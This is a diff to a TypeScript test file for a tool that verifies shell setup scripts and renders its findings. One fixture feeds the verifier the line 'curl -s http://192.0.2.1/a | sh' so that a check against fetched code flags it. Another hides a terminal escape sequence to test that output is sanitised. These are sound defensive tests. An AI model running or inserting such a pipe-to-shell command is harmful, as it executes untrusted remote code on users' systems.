@@ -26,9 +26,9 @@ describe("VerificationReport", () => {
     "survives it inside the failure, which stays the same class",
     { report: VerificationReport.VerificationReport },
     ({ report }) => {
-      const failure = new VerificationFailed.VerificationFailed({ report })
-      const again = throughJson(VerificationFailed.VerificationFailed, failure)
-      assert.instanceOf(again, VerificationFailed.VerificationFailed)
+      const failure = new VerificationFailed({ report })
+      const again = throughJson(VerificationFailed, failure)
+      assert.instanceOf(again, VerificationFailed)
       assert.deepStrictEqual(again.report, failure.report)
       assert.strictEqual(again.message, failure.message)
       assert.strictEqual(again.hint, failure.hint)
@@ -39,28 +39,59 @@ describe("VerificationReport", () => {
     Effect.gen(function* () {
       const { checks, ...rest } = yield* VerifySetupScript.verifySetupScript(sampleBytes)
       const newer = { ...rest, verified: false, checks: [{ ...checks[0]!, name: "newer", outcome: "failed" as const }] }
-      const failure = new VerificationFailed.VerificationFailed({ report: newer })
-      assert.strictEqual(throughJson(VerificationFailed.VerificationFailed, failure).report.checks[0]?.name, "newer")
+      const failure = new VerificationFailed({ report: newer })
+      assert.strictEqual(throughJson(VerificationFailed, failure).report.checks[0]?.name, "newer")
       assert.include(failure.hint, "Do not run the script")
     })
   )
 
-  it.effect("renders to one line, and to a line for each check", () =>
+  it.effect("renders to one line, with counts, and names what failed or warned", () =>
     Effect.gen(function* () {
+      const good = yield* VerifySetupScript.inspectSetupScript(sampleBytes)
+      const { failed, notApplicable, off, passed, warned } = VerificationReport.counts(good)
+      assert.deepStrictEqual([failed, warned, off, passed + notApplicable], [0, 0, 0, Checks.all.length])
+      assert.strictEqual(VerificationReport.renderCounts(good), `${passed} passed, ${notApplicable} not applicable`)
       const report = yield* VerifySetupScript.inspectSetupScript(new TextEncoder().encode("#!/bin/sh\nif a\n"))
-      assert.strictEqual(
+      assert.match(
         VerificationReport.renderLine(report),
-        "not verified: 18 of 28 checks passed, failed shellSyntax, complete, skipped announcedLength, sha256Pin, " +
-          "knownDigest, signature, certificates, certificateNames, configuredAddress, configuredTrustAnchors " +
-          `(15 bytes, SHA-256 ${report.sha256})`
+        /^not verified: 2 failed, 1 warned, \d+ passed, \d+ not applicable; failed: shellSyntax, complete; warned: endsInCommand \(15 bytes, SHA-256 [0-9a-f]{64}\)$/
       )
+    })
+  )
+
+  it.effect("renders what failed and warned first, with place, excerpt, reason and advice", () =>
+    Effect.gen(function* () {
+      const text = "#!/bin/sh\nif a\ncurl -s http://192.0.2.1/a | sh\n"
+      const report = yield* VerifySetupScript.inspectSetupScript(new TextEncoder().encode(text))
       const lines = VerificationReport.render(report).split("\n")
-      assert.strictEqual(lines[0], `not verified, 15 bytes, SHA-256 ${report.sha256}`)
-      // One more, for the block that is not closed.
-      assert.strictEqual(lines.length, 1 + Checks.all.length + 1)
-      assert.include(lines, "  passed   knownShebang             #!/bin/sh")
-      assert.include(lines, `${" ".repeat(38)}line 2: if is never closed`)
-      assert.match(lines.find((line) => line.includes("shellSyntax")) ?? "", /^ {2}failed .*\(line 3, column 1\)$/)
+      assert.strictEqual(lines[0], `not verified, ${text.length} bytes, SHA-256 ${report.sha256}`)
+      assert.strictEqual(lines[1], VerificationReport.renderCounts(report))
+      assert.match(lines[2] ?? "", /^This script runs code /)
+      assert.match(lines[3] ?? "", /^ {2}failed .*Shell syntax \(shellSyntax\) .*required/)
+      const words = lines
+        .slice(2)
+        .flatMap((line) => /^ {2}(failed|warned|passed|not applicable) /.exec(line)?.[1] ?? [])
+      assert.deepStrictEqual([...new Set(words)], ["failed", "warned", "passed", "not applicable"])
+      assert.include(lines.join("\n"), "line 2: if is never closed – if a")
+      const fetched = report.checks.find(({ name }) => name === "noFetchedCode")!
+      const explanation = VerificationReport.explanation(fetched)
+      assert.include(explanation[0], "line 3: curl -s http://192.0.2.1/a | sh")
+      assert.deepStrictEqual(explanation.slice(1), [
+        `Why: ${Checks.get("noFetchedCode")?.why}`,
+        `What to do: ${Checks.get("noFetchedCode")?.hint}`
+      ])
+    })
+  )
+
+  it.effect("quotes the script without what a terminal obeys", () =>
+    Effect.gen(function* () {
+      const text = `#!/bin/sh\n${" ".repeat(300)}echo \u001b[2Jhidden "\n`
+      const report = yield* VerifySetupScript.inspectSetupScript(new TextEncoder().encode(text))
+      assert.notInclude(VerificationReport.render(report), "\u001b")
+      assert.isAbove(
+        report.checks.filter(({ excerpt, places }) => excerpt !== undefined || places !== undefined).length,
+        0
+      )
     })
   )
 })
@@ -118,6 +149,7 @@ describe("VerificationPolicy", () => {
       assert.isNotEmpty(check.title)
       assert.isNotEmpty(check.documentation)
       assert.isNotEmpty(check.hint)
+      assert.isNotEmpty(check.why)
     }
   })
 })
